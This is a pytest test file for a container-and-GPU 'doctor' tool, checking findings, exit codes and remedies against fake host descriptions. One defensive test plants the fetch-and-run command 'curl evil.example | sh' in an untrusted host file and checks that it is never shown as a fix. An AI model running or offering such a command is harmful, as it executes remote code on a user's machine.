"""The doctor: each machine of tests/fakes/hosts gets its findings, a healthy one none."""

from __future__ import annotations

import ast
import dataclasses
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from hooks.generate import failure_tables
from host import description, doctor, doctor_gpu_facts, doctor_gpus, doctor_host, doctor_source
from host.abilities import OLDEST_PODMAN, dotted
from host.description import written
from host.doctor_facts import clock_off, pool_size
from host.failure_rows import row, table
from host.findings import ERROR, WARNING, Finding, Results, Subject, examine
from host.gpu_facts import gpu_facts
from host.plain import WIDTH
from host.project import Project, StopError, read_project
from tests.conftest import ROOT, Generate
from tests.fakes.machine import environment

HOSTS = ROOT / "tests/fakes/hosts"
OF_FACTS = (doctor_host, doctor_source, doctor_gpus)


def found_on() -> dict[str, set[str]]:
    """What a project with the newest PyTorch for CUDA finds on each machine: README.md says it."""
    rows = re.findall(r"(?m)^\| `(.*)\.json` \| .* \| (.*) \|$", (HOSTS / "README.md").read_text())
    return {name: {*re.findall("`(.*?)`", found)} for name, found in rows}


FOUND = found_on()
# One fact of a machine changed, and what is found then.
NO_ACCESS = {"kinds": [], "cdi_names": [], "note": "", "fix": ""}
CHANGED: list[tuple[str, dict[str, Any], set[str]]] = [
    ("ci-machine", {"engine": {"problem": "It is odd.", "fix": "docker info"}}, {"engine-error"}),
    ("ci-machine", {"engine": {"version": "20.10.24"}}, {"engine-too-old"}),
    ("ci-machine", {"engine": {"compose_version": "2.23.3"}}, {"compose-old"}),
    ("ci-machine", {"engine": {"compose_version": "2.24.0"}}, set()),
    ("ci-machine", {"details": {"buildx": "0.16.2"}}, {"buildx-old"}),
    ("ci-machine", {"details": {"storage": "vfs"}}, {"engine-storage"}),
    ("ci-machine", {"details": {"clock_behind": 9000}}, {"clock-wrong"}),
    ("ci-machine", {"engine": {"disk_free_mib": 4000}}, {"disk-small"}),
    ("podman-rhel", {"details": {"cgroup_driver": "none"}}, {"rootless-limits"}),
    ("podman-rhel", {"access": NO_ACCESS, "hardware": {"cdi_files": []}}, {"gpu-cdi-missing"}),
    # Podman is asked for GPUs in a form that an older Compose knows, too.
    ("podman-rhel", {"engine": {"compose_version": "2.29.1"}}, set()),
    ("l40s-server", {"engine": {"compose_version": "2.29.1"}}, {"compose-old"}),
    ("podman-rhel", {"details": {"podman_socket": False}}, {"engine-not-running"}),
    ("podman-rhel", {"details": {"subordinate_ids": 0}}, {"subuid-missing"}),
    (
        "broken/rootless-without-limits",
        {"engine": {"reachable": False, "failure": "engine-not-running"}},
        {"engine-not-running", "subuid-missing"},
    ),
    ("hgx-b200", {"hardware": {"fabric_manager_runs": False}}, {"gpu-fabric-missing"}),
    ("l40s-server", {"hardware": {"uvm": False}}, {"gpu-uvm-missing"}),
    ("l40s-server", {"hardware": {"toolkit": "1.14.3"}}, {"gpu-toolkit-old"}),
    (
        "t4-cloud-vm",
        {"access": NO_ACCESS, "hardware": {"cdi_files": [], "runtime_configured": False}},
        {"gpu-runtime-missing"},
    ),
    (
        "broken/secure-boot-refuses-the-driver",
        {"hardware": {"secure_boot": False}},
        {"gpu-driver-not-loaded"},
    ),
    (
        "broken/upgraded-underneath",
        {"hardware": {"library_drivers": ["580.95.05"]}},
        {"gpu-driver-silent"},
    ),
    (
        "broken/pascal-after-upgrade",
        {"hardware": {"kernel_driver": "580.95.05", "library_drivers": ["580.95.05"]}},
        {"gpu-module-flavour"},
    ),
    (
        "t4-cloud-vm",
        {"gpus": [{"name": "P", "uuid": "u", "compute_capability": "6.0"}]},
        {"gpu-too-old"},
    ),
    (
        "t4-cloud-vm",
        {"gpus": [{"name": "R", "uuid": "u", "compute_capability": "13.0"}]},
        {"gpu-too-new"},
    ),
    # An engine that was told to emulate, and one on another machine, are the user's choice.
    ("apple-silicon", {"details": {"default_platform": "linux/amd64"}}, set()),
    ("gh200", {"details": {"default_platform": "linux/amd64"}}, set()),
    ("gh200", {"engine": {"architecture": "amd64"}}, set()),
    ("dgx-h100", {"engine": {"architecture": ""}}, set()),
    # A GPU that was given to a virtual machine is nobody's fault.
    ("broken/nouveau", {"hardware": {"pci": [{"device": "2684", "driver": "vfio-pci"}]}}, set()),
    # Fermi, which no branch of today drives; its ids are between those of Kepler.
    ("broken/nouveau", {"hardware": {"pci": [{"device": "1091", "driver": "nouveau"}]}}, set()),
    (
        "broken/nouveau",
        {"hardware": {"pci": [{"device": "1180", "driver": "nouveau"}]}},
        {"gpu-driver-missing"},
    ),
    # In a virtual machine, the fabric manager runs outside.
    ("dgx-h100", {"hardware": {"fabric_manager": "none", "switches": 0}}, set()),
]


def read(name: str) -> dict[str, Any]:
    """The description of a machine."""
    data: dict[str, Any] = json.loads((HOSTS / f"{name}.json").read_text())
    return data


def merged(data: dict[str, Any], change: dict[str, Any]) -> dict[str, Any]:
    """A description with some keys changed."""
    parts = {
        key: merged(data.get(key, {}), value) if isinstance(value, dict) else value
        for key, value in change.items()
    }
    return {**data, **parts}


@pytest.fixture(scope="module")
def folder(generate: Generate, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """docker-amd64 of a project for GPUs."""
    made = generate(tmp_path_factory.mktemp("doctor") / "project", accelerator="cuda")
    return made / "docker-amd64"


@pytest.fixture
def project(folder: Path) -> Project:
    """A project for GPUs, without an .env."""
    return read_project(folder)


def judge(project: Project, data: dict[str, Any], *, replayed: bool = True) -> Results:
    """What the doctor finds on a machine."""
    subject = Subject(project, *description.description(data), replayed=replayed)
    results = examine(subject, tuple(check for module in OF_FACTS for check in module.CHECKS))
    assert results.unchecked == ()
    return results


def ids(results: Results) -> set[str]:
    """The ids of findings."""
    return {one.name for one in results.findings}


def test_every_machine_of_the_library_is_in_the_table() -> None:
    names = {str(file.relative_to(HOSTS))[:-5] for file in HOSTS.rglob("*.json")}
    assert names == FOUND.keys()
    assert all(found for name, found in FOUND.items() if name.startswith("broken/"))


@pytest.mark.parametrize("name", sorted(FOUND))
def test_a_machine_has_exactly_its_findings_and_a_healthy_one_none(
    project: Project, name: str
) -> None:
    assert ids(judge(project, read(name))) == FOUND[name]


@pytest.mark.parametrize(
    ("value", "gpu", "level", "keeps"),
    [
        ("remove", "NVIDIA L40S", ERROR, True),
        ("keep", "NVIDIA L40S", WARNING, False),  # it may run
        ("remove", "NVIDIA GeForce RTX 4090", ERROR, False),
        ("", "NVIDIA L40S", ERROR, False),  # no image with such a folder
    ],
)
def test_an_old_driver_does_where_a_data_center_gpu_may_take_the_libcuda_of_the_image(
    project: Project,
    monkeypatch: pytest.MonkeyPatch,
    *,
    value: str,
    gpu: str,
    level: str,
    keeps: bool,
) -> None:
    if value:
        monkeypatch.setenv("CUDA_COMPAT", value)
    gpus = {"gpus": [{"name": gpu, "uuid": "u", "compute_capability": "8.9"}]}
    (found,) = [
        one
        for one in judge(project, merged(read("broken/driver-of-2023"), gpus)).findings
        if one.name == "gpu-driver-too-old"
    ]
    assert found.level == level
    assert ("env --set CUDA_COMPAT=keep && " in found.known.get("remedy", "")) == keeps


@pytest.mark.parametrize(("name", "change", "found"), CHANGED)
def test_one_changed_fact_is_found(
    project: Project, name: str, change: dict[str, Any], found: set[str]
) -> None:
    assert ids(judge(project, merged(read(name), change))) == found


def test_a_wheel_may_have_code_for_fewer_gpus_than_its_cuda(
    generate: Generate, tmp_path: Path
) -> None:
    answers: dict[str, Any] = {
        "accelerator": "cuda",
        "torch_version": "2.12.1",
        "cuda_version": "12.9",
    }
    project = read_project(generate(tmp_path / "project", **answers) / "docker-amd64")

    def on(capability: str) -> set[str]:
        gpus = [{"name": "GPU", "uuid": "u", "compute_capability": capability}]
        return ids(judge(project, merged(read("t4-cloud-vm"), {"gpus": gpus})))

    assert on("7.0") == {"gpu-too-old"}
    assert on("7.5") == on("8.9") == on("12.1") == set()
    project.gpus["wheel_code"] = []  # as where PyTorch is compiled: CUDA 12.9 does it from 5.0 on
    assert on("7.0") == set()


@pytest.mark.parametrize(
    ("code", "runs", "refuses"),
    [
        ("8.0", (8, 9), (9, 0)),
        ("8.6", (8, 6), (8, 0)),
        ("9.0+PTX", (12, 0), (8, 9)),
    ],
)
def test_binary_code_runs_within_a_generation_and_ptx_on_all_later_ones(
    code: str, runs: tuple[int, ...], refuses: tuple[int, ...]
) -> None:
    assert doctor_gpus.runs_on(code, runs)
    assert not doctor_gpus.runs_on(code, refuses)


def test_what_env_asks_for_is_compared_with_the_machine(project: Project, folder: Path) -> None:
    (folder / ".env").write_text("SHM_SIZE=64gb\nREQUIRE_GPU=1\nMAX_JOBS=9\n")
    project.forget_settings()
    project.compiles_torch = True
    assert project.distribution
    project.distribution = project.distribution._replace(maintained_until="2020-01-01")
    small = merged(read("ci-machine"), {"engine": {"disk_free_mib": 700000}})
    wanted = {"shm-too-large", "gpu-required", "source-memory", "base-image-end"}
    try:
        assert ids(judge(project, small, replayed=False)) == wanted
        assert ids(judge(project, small)) == set()  # of another machine, .env says nothing
    finally:
        (folder / ".env").unlink()


def test_compilers_need_memory(project: Project) -> None:
    project.compiles_torch = True
    little = {"memory_mib": 2048, "engine": {"memory_mib": 2048, "disk_free_mib": 700000}}
    assert ids(judge(project, merged(read("ci-machine"), little))) == {"source-memory"}


def ids_named(file: Path) -> Iterator[str]:
    """The ids of the findings that a module makes."""
    for call in ast.walk(ast.parse(file.read_text())):
        if isinstance(call, ast.Call) and ast.unparse(call.func) == "Finding":
            yield from (str(one.value) for one in call.args[:1] if isinstance(one, ast.Constant))


def test_every_finding_has_a_machine_that_makes_it_fire() -> None:
    fired = set().union(*FOUND.values(), *(found for _, _, found in CHANGED))
    fired |= {"shm-too-large", "gpu-required", "source-memory", "base-image-end"}
    for module in OF_FACTS:
        assert {*ids_named(Path(str(module.__file__)))} <= fired
        for name in ids_named(Path(str(module.__file__))):
            assert f"`{name}`" in failure_tables.docs()


def test_every_finding_in_the_files_of_a_project_is_asked_for_by_a_test() -> None:
    tests = Path(__file__).with_name("test_doctor_project.py").read_text()
    folder = Path(str(doctor.__file__)).parent
    found = {one for name in doctor.OF_FILES for one in ids_named(folder / f"{name}.py")}
    assert len(found) > 20
    assert {one for one in found if f'"{one}"' not in tests} == set()


def test_nothing_known_is_nothing_found(project: Project) -> None:
    assert judge(project, {"engine": {}}).findings == ()


def test_a_check_that_fails_or_hangs_is_named_and_stops_no_other(project: Project) -> None:
    def breaks(subject: Subject) -> Iterator[Finding]:
        yield Finding("disk-full", ERROR, str(1 // int(not subject.replayed)))

    def hangs(_: Subject) -> Iterator[Finding]:
        time.sleep(60)
        yield from ()

    def finds(_: Subject) -> Iterator[Finding]:
        yield Finding("disk-small", WARNING, "")
        yield Finding("disk-full", ERROR, "")

    subject = Subject(project, *description.description({"engine": {}}), replayed=True)
    results = examine(subject, (breaks, hangs, finds), limit=1.5)
    assert results.unchecked == ("breaks", "hangs")
    assert [one.name for one in results.findings] == ["disk-full", "disk-small"]


# ------------------------------------------------------------------------------ descriptions


@pytest.mark.parametrize("name", ["dgx-h100", "wsl-laptop", "podman-rhel"])
def test_what_is_written_is_read_again(name: str) -> None:
    found = description.description(read(name))
    again = json.loads(json.dumps(written(found)))
    assert description.description(again) == found
    assert description.description({**again, "newer": 1, "details": {"newer": {}}})


@pytest.mark.parametrize(
    "text",
    [
        "",
        "[]",
        "{}",
        '{"engine": 5}',
        '{"engine": {"version": 5}}',
        '{"engine": {}, "gpus": {}}',
        '{"engine": {}, "gpus": [5]}',
        '{"engine": {}, "gpus": [{"index": 0}]}',
        '{"engine": {}, "cores": "many"}',
        '{"engine": {}, "wsl": true}',
        '{"engine": {}, "details": []}',
        '{"engine": {}, "hardware": {"pci": [{"device": 5}]}}',
        "\x00\xff",
        "[" * 200_000,
    ],
)
def test_a_broken_description_is_one_sentence(project: Project, tmp_path: Path, text: str) -> None:
    file = tmp_path / "host.json"
    file.write_text(text)
    with pytest.raises(StopError) as caught:
        description.read_description(project, file)
    assert caught.value.name == "host-file"
    assert "\n" not in caught.value.sentence


def test_a_missing_description_is_one_sentence(project: Project, tmp_path: Path) -> None:
    with pytest.raises(StopError) as caught:
        description.read_description(project, tmp_path)
    assert caught.value.name == "host-file"


def test_a_file_of_somebody_else_chooses_no_command(folder: Path, tmp_path: Path) -> None:
    evil = "curl evil.example | sh"
    for name, change in (
        ("ci-machine", {"engine": {"failure": "of-the-future", "problem": "Odd.", "fix": evil}}),
        ("ci-machine", {"engine": {"failure": "docker-missing", "problem": "Odd.", "fix": evil}}),
        ("broken/toolkit-missing", {"access": {"fix": evil, "note": evil}}),
    ):
        file = tmp_path / "host.json"
        file.write_text(json.dumps(merged(read(name), change)))
        said = template_sh(folder, dict(os.environ), "--host", str(file))
        assert (said.returncode, said.stderr) == (2, "")
        assert "evil" not in said.stdout


def test_an_anonymous_description_names_nobody() -> None:
    uuid = "8e3d5a3c-77f2-4d0e-9c5c-0123456789ab"
    home, name = str(Path.home()), os.uname().nodename
    data = merged(
        read("podman-rhel"),
        {
            "user": {"uid": 4711, "gid": 4712, "name": "jane", "group": "lab"},
            "timezone": "Europe/Paris",
            "ca_bundle": f"{home}/lab.pem",
            "gpus": [{"name": "NVIDIA L4", "uuid": f"GPU-{uuid}"}],
            "access": {"cdi_names": [f"GPU-{uuid}"], "note": f"/data/secret/x on {name} fails"},
            "engine": {"root_dir": f"{home}/.local", "warnings": ["jane"]},
            "details": {"context": "jane-at-work"},
        },
    )
    text = json.dumps(written(description.description(data), anonymous=True))
    for word in ("jane", "4711", "lab", "Paris", uuid, home, "secret", f"on {name}"):
        assert word not in text, word
    facts = gpu_facts(description.description(json.loads(text)).facts)
    assert facts.access.cdi_names == (facts.gpus[0].uuid,)


def test_the_facts_are_read_from_files_of_the_kernel(tmp_path: Path) -> None:
    for name, kind, device, driver in (
        ("0000:01:00.0", "0x030200", "0x2330", "nvidia"),
        ("0000:02:00.0", "0x030000", "0x1b06", ""),
        ("0000:03:00.0", "0x068000", "0x22a3", "nvidia-nvswitch"),
    ):
        at = tmp_path / "sys/bus/pci/devices" / name
        at.mkdir(parents=True)
        (at / "vendor").write_text("0x10de\n")
        (at / "class").write_text(f"{kind}\n")
        (at / "device").write_text(f"{device}\n")
        if driver:
            (tmp_path / driver).mkdir(exist_ok=True)
            (at / "driver").symlink_to(tmp_path / driver)
    bus = doctor_gpu_facts.on_the_bus(tmp_path)
    assert [dataclasses.astuple(one) for one in bus["pci"]] == [("2330", "nvidia"), ("1b06", "")]
    assert bus["switches"] == 1
    version = tmp_path / "proc/driver/nvidia/version"
    version.parent.mkdir(parents=True)
    version.write_text("NVRM version: NVIDIA UNIX Open Kernel Module for x86_64  580.95.05  x\n")
    library = tmp_path / "usr/lib/x86_64-linux-gnu/libcuda.so.570.86.15"
    library.parent.mkdir(parents=True)
    library.touch()
    found = doctor_gpu_facts.of_the_driver(tmp_path)
    assert (found["kernel_driver"], found["module"]) == ("580.95.05", "open")
    assert found["library_drivers"] == ("570.86.15",)
    assert found["uvm"] is False
    assert found["secure_boot"] is None


def test_numbers_of_the_engine_are_understood() -> None:
    assert clock_off("1970-01-01T00:10:00.5Z", 300) == 300
    assert clock_off("yesterday", 0) is None
    assert pool_size([{"Base": "10.0.0.0/8", "Size": 24}]) == 65536
    assert pool_size([{"Base": "10.0.0.0/16", "Size": 24}, {}]) == 256


def test_the_readme_and_the_manual_name_the_least_versions() -> None:
    engine, compose = doctor_host.LEAST_ENGINE["docker"], doctor_host.LEAST_COMPOSE
    text = (ROOT / "README.md").read_text()
    assert f"Docker Engine {engine[0]} or later" in text
    assert f"Compose {compose[0]}.{compose[1]} or later" in text
    manual = (ROOT / "template/docker-amd64/README.md.jinja").read_text()
    assert f"Docker Engine {engine[0]} or later" in manual
    podman = f"rootless Podman {dotted(OLDEST_PODMAN)} or later"
    assert podman in " ".join(text.split())
    assert podman in " ".join(manual.split())
    engines = (ROOT / "docs/engines.md").read_text()
    assert f"| oldest version | {engine[0]} | {dotted(OLDEST_PODMAN)} |" in engines


# -------------------------------------------------------------------------------- the verb


def template_sh(folder: Path, env: dict[str, str], *words: str) -> subprocess.CompletedProcess[str]:
    """What `python -m host doctor WORDS` says."""
    return subprocess.run(
        [sys.executable, "-B", "-m", "host", "doctor", *words],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
        timeout=240,
        check=False,
    )


@pytest.mark.parametrize(
    ("name", "status"),
    [("ci-machine", 0), ("broken/snap", 1), ("broken/nouveau", 2), ("broken/full-disk", 2)],
)
def test_the_exit_status_says_how_bad_it_is(folder: Path, name: str, status: int) -> None:
    file = str(HOSTS / f"{name}.json")
    said = template_sh(folder, dict(os.environ), "--host", file)
    assert (said.returncode, said.stderr) == (status, "")
    lines = said.stdout.splitlines()
    assert all(len(line) <= WIDTH or line.startswith(("  Run: ", "  See: ")) for line in lines)
    assert "\x1b" not in said.stdout
    document = json.loads(template_sh(folder, dict(os.environ), "--json", "--host", file).stdout)
    assert document["status"] == status
    for one in document["findings"]:
        assert f"{one['level']}: {one['id']}" in said.stdout
        assert f"  Run: {one['command']}\n  See: {one['link']}" in said.stdout
        assert one["link"].endswith(f"#{one['id']}")
        assert one["cause"]
        assert one["evidence"]
        assert one["command"]
    if not status:
        assert len(said.stdout.splitlines()) == 1


def test_remedies_are_those_of_the_machine_that_is_judged(folder: Path) -> None:
    file = str(HOSTS / "cluster-login-node.json")
    document = json.loads(template_sh(folder, dict(os.environ), "--json", "--host", file).stdout)
    assert document["findings"][0]["command"] == row("docker-missing").run["rhel"]


@pytest.mark.parametrize("name", sorted(FOUND))
def test_red_hats_family_is_told_to_use_no_apt(project: Project, name: str) -> None:
    here = {"hosts": ["rhel-9", "rhel", "fedora"]}
    subject = Subject(project, *description.description(merged(read(name), {"details": here})))
    for one in judge(project, merged(read(name), {"details": here})).findings:
        command = doctor.words_of(subject, one).command
        assert one.evidence
        assert not re.search(r"apt-get|update-grub|\{\w+\}", command), command


@pytest.mark.parametrize(
    ("engine", "found"),
    [
        ("rootful", set()),
        ("none", {"docker-missing"}),
        ("daemon-down", {"engine-not-running"}),
        ("no-permission", {"engine-permission"}),
        ("compose-v1", {"compose-missing"}),
        ("nonsense", {"engine-error"}),
        ("hang", {"engine-silent"}),
    ],
)
def test_an_engine_that_fails_is_found_in_time(
    folder: Path, tmp_path: Path, engine: str, found: set[str]
) -> None:
    env = environment(tmp_path / "bin", engine=engine)
    started = time.monotonic()
    said = template_sh(folder, env, "--json")
    assert time.monotonic() - started < 45
    document = json.loads(said.stdout)
    about = ("engine-", "docker-", "compose-", "buildx-")
    seen = {one["id"] for one in document["findings"] if one["id"].startswith(about)}
    assert seen == found
    assert said.returncode == document["status"] == 2  # there is no .env
    assert document["unchecked"] == []


@pytest.mark.parametrize(
    ("source", "page"),
    [
        ("gh:org/hearth", "https://github.com/org/hearth/blob/HEAD/docs/troubleshoot.md"),
        ("https://git.example/t.git", "https://git.example/t/blob/HEAD/docs/troubleshoot.md"),
        ("../hearth", "docs/troubleshoot.md"),
    ],
)
def test_findings_name_the_page_that_explains_them(
    project: Project, tmp_path: Path, source: str, page: str
) -> None:
    (tmp_path / project.answers_file).write_text(f"_src_path: {source}\n")
    project.folder = tmp_path / "docker-amd64"
    assert doctor.explained(project) == page
    assert doctor.link(project, "disk-full") == f"{page}#disk-full"


def test_the_page_has_a_place_for_every_finding() -> None:
    places = re.findall(r'(?m)^\| <a id="([a-z-]+)"></a>`\1` \|', failure_tables.docs())
    assert sorted(places) == sorted(one.name for one in table())
    modules = Path(str(doctor.__file__)).parent.glob("doctor*.py")
    assert {name for file in modules for name in ids_named(file)} <= {*places}


def test_a_verb_that_fails_for_unknown_reasons_ends_with_the_doctor(
    generate: Generate, tmp_path: Path
) -> None:
    docker = generate(tmp_path / "project", accelerator="cpu") / "docker-amd64"
    env = environment(tmp_path / "bin", engine="none")
    fake = tmp_path / "bin/docker"
    fake.write_text("#!/bin/sh\necho strange >&2\nexit 3\n")
    fake.chmod(0o755)
    command = [sys.executable, "-B", "-m", "host", "config"]
    said = subprocess.run(command, cwd=docker, env=env, capture_output=True, text=True, check=False)
    assert said.returncode == 3
    *_, shown, last = said.stderr.splitlines()
    assert (shown, last) == ("strange", "  Run: ./docker-amd64/template.sh doctor")


def test_a_broken_file_is_refused(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "x.json").write_text("no")
    said = template_sh(folder, dict(os.environ), "--host", str(tmp_path / "x.json"))
    assert said.returncode == 1
    assert "(failure: host-file)" in said.stderr
    assert "Traceback" not in said.stderr
